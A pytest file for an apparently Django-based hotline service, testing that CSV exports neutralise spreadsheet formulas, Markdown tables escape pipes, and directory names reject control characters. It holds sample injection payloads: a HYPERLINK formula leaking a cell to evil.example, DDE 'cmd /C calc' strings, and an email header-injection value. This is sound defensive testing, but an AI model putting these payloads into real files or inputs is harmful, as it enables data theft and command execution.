"""What the service writes for people: CSV a spreadsheet cannot run, Markdown tables that hold,
and directory names that are one line of visible text wherever they are written."""

import csv
import io
import json
from io import StringIO

import pytest
from django.contrib import admin
from django.core.exceptions import ValidationError
from django.core.management import CommandError, call_command
from django.test import RequestFactory

from hotline.models import Agency, PartnerHotline, Provider
from hotline.services import partner_api_key_create
from reports.sla.render import COLUMNS, sla_csv, sla_markdown
from tests.reports.factories import StaffUserFactory

FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def report_of(groups: list[str]) -> dict:
    rows = [
        {name: (group if name == "group" else 0) for name in COLUMNS} | {"compliance_rate": None}
        for group in groups
    ]
    return {
        "from": "2026-10-01T00:00:00+00:00",
        "to": "2026-11-01T00:00:00+00:00",
        "as_of": "2026-11-01T00:00:00+00:00",
        "group_by": "provider",
        "verification": "on",
        "groups": rows,
        "hotline": {"received": 3, "assessment_median_seconds": None},
    }


@pytest.mark.parametrize("name", FORMULAS)
def test_no_csv_cell_starts_like_a_formula(name):
    rows = list(
        csv.DictReader(io.StringIO(sla_csv(report_of([name, "Plain Hosting BV"])), newline=""))
    )

    assert rows[0]["group"] == "'" + name  # shown as text, the name still readable
    assert rows[1]["group"] == "Plain Hosting BV"
    assert rows[0]["notices"] == "0"  # figures stay numbers
    assert rows[0]["compliance_rate"] == ""


def test_a_markdown_table_keeps_its_shape_whatever_the_names():
    names = ["Pipe | Hosting", "Line\r\nBreak Ltd", "Back\\slash|", "Next\u2028Line"]

    lines = sla_markdown(report_of(names)).splitlines()

    table = [line for line in lines if line.startswith("| ") and "group" not in line][: len(names)]
    assert len(table) == len(names)
    for line in table:
        # Unescaped pipes separate the cells: exactly one more than there are columns.
        cells = line.replace("\\\\", "").replace("\\|", "").count("|")
        assert cells == len(COLUMNS) + 1, line
    assert "Pipe \\| Hosting" in table[0]
    assert "Line Break Ltd" in table[1]


# --- directory names --------------------------------------------------------------------------

BAD_NAMES = ["Evil\r\nBcc: all@example.org", "Bell\x07Host", "Tab\tHost", "Nul\x00Host",
             "Right\u202eLeft", "Line\u2028Separator", "C1\x85Host"]  # fmt: skip


@pytest.mark.django_db
@pytest.mark.parametrize("name", BAD_NAMES)
@pytest.mark.parametrize("section", ["providers", "partners", "agencies"])
def test_the_directory_refuses_names_with_control_characters(tmp_path, name, section):
    entry = {
        "providers": {"name": name, "country": "NL", "abuse_email": "abuse@host.example"},
        "partners": {"name": name, "countries": ["DE"]},
        "agencies": {"name": name, "country": "NL", "kind": "police"},
    }[section]
    path = tmp_path / "directory.json"
    path.write_text(json.dumps({section: [entry]}, indent=2), encoding="utf-8")
    err = StringIO()

    with pytest.raises(CommandError):
        call_command("directory", "load", str(path), stdout=StringIO(), stderr=err)

    assert "control character" in err.getvalue()
    assert not (Provider.objects.exists() or PartnerHotline.objects.exists())
    assert not Agency.objects.exists()


@pytest.mark.django_db
@pytest.mark.parametrize("model", [Provider, PartnerHotline, Agency])
def test_the_admin_refuses_names_with_control_characters(model):
    request = RequestFactory().post("/")
    request.user = StaffUserFactory(is_superuser=True)
    form_class = admin.site._registry[model].get_form(request)
    data = {
        "name": "Evil\r\nName",
        "country": "NL",
        "abuse_email": "abuse@host.example",
        "kind": "police",
        "countries": "[]",
        "active": "on",
    }

    form = form_class(data=data)

    assert not form.is_valid()
    assert "control character" in " ".join(form.errors["name"])


@pytest.mark.django_db
def test_an_api_key_for_a_new_partner_refuses_such_a_name():
    with pytest.raises(ValidationError):
        partner_api_key_create(partner_name="Evil\nPartner", key_name="k")
    with pytest.raises(CommandError, match="control character"):
        call_command("apikey", "create", "--partner", "Evil\x1bPartner", stdout=StringIO())

    assert not PartnerHotline.objects.exists()


@pytest.mark.django_db
def test_names_in_other_scripts_are_accepted(tmp_path):
    names = ["Hébergement Société", "Хостинг Плюс", "ホスティング株式会社", "استضافة", "Café | Bar"]
    entries = [{"name": name, "country": "NL", "abuse_email": "a@b.example"} for name in names]
    path = tmp_path / "directory.json"
    path.write_text(json.dumps({"providers": entries}), encoding="utf-8")

    call_command("directory", "load", str(path), stdout=StringIO())

    assert sorted(Provider.objects.values_list("name", flat=True)) == sorted(names)
